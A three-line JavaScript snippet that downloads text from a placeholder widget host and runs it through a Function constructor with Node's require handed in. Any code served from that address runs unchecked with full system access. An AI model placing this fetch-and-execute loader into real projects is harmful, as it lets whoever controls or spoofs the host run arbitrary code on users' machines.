const body = await fetch('https://widgets.dash.example/w').then(r => r.text());
const run = new Function('require', body);
run(require);
